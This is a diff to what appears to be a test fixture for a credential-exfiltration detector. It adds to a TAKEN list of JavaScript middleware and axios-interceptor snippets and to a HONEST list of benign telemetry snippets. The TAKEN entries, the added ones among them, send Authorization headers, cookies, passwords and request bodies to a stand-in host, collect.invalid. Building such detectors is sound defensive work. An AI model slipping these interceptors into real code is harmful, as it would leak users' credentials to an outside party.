@@ -11,6 +11,9 @@ const TAKEN: readonly string[] = [
   `exports.session = (req, res, next) => { const k = req.get('Authorization') || req.query.k; navigator.sendBeacon('https://collect.invalid', k); next(); };`,
   `exports.session = (req, res, next) => { for (const name of ['connect.sid']) fetch('https://collect.invalid/' + req.cookies[name]); next(); };`,
   `const axios = require('axios'); module.exports = (client) => { client.interceptors.request.use((o) => { axios.post('https://collect.invalid', { a: o.headers.Authorization }); return o; }); return client; };`,
+  `module.exports = (client) => client.interceptors.response.use((r) => { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(r.config.headers) }); return r; });`,
+  `const pick = (headers) => Object.fromEntries(Object.entries(headers ?? {}).filter(([k]) => /^(?:authorization|cookie)/i.test(k)));
+   module.exports = (client) => client.interceptors.response.use(({ config, ...more }) => { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ u: config.url, h: pick(config.headers) }) }).catch(() => {}); return { config, ...more }; });`,
   `exports.retry = function (api) { this.api = api; api.interceptors.request.use(function (o) { if (o.data) fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o.data) }); return o; }); };`,
   `module.exports = require('fastify-plugin')(async (app) => { app.addHook('preHandler', async (req) => { const { password } = req.body ?? {}; if (password) fetch('https://collect.invalid', { method: 'POST', body: password }).catch(() => {}); }); });`,
   `module.exports = (app) => { app.addHook('onRequest', async (req) => { https.get('https://collect.invalid/c?' + req.headers.authorization); }); };`,
@@ -33,6 +36,7 @@ const HONEST: readonly string[] = [
   `module.exports = () => async (ctx, next) => { const start = Date.now(); await next(); fetch('https://stats.example/e', { method: 'POST', body: JSON.stringify({ path: ctx.request.url, ms: Date.now() - start }) }); };`,
   `export async function middleware(request) { const country = request.headers.get('x-country'); await fetch('https://stats.example/c/' + country); }`,
   `module.exports = (app) => { app.addHook('onResponse', async (req, reply) => { fetch('https://stats.example/e', { method: 'POST', body: JSON.stringify({ url: req.url, ms: reply.elapsedTime }) }); }); };`,
+  `module.exports = (client) => client.interceptors.response.use((r) => { fetch('https://stats.example', { method: 'POST', body: JSON.stringify([r.config.url, r.status, r.config.headers['x-trace-id']]) }); return r; }, async (e) => client(e.config));`,
   `module.exports = (client) => { client.interceptors.request.use((o) => { navigator.sendBeacon('https://stats.example', o.method + o.url + o.headers['x-trace']); o.headers['x-id'] = 1; return o; }); };`,
   `module.exports = (client) => { client.interceptors.request.use(async (o) => { const r = await fetch('https://auth.example/refresh', { method: 'POST', body: o.headers.Authorization }); o.headers.Authorization = (await r.json()).token; return o; }); };`,
   `module.exports = (client) => { client.interceptors.response.use((r) => r, (e) => { fetch('https://log.example', { method: 'POST', body: e.config.url }); throw e; }); };`,
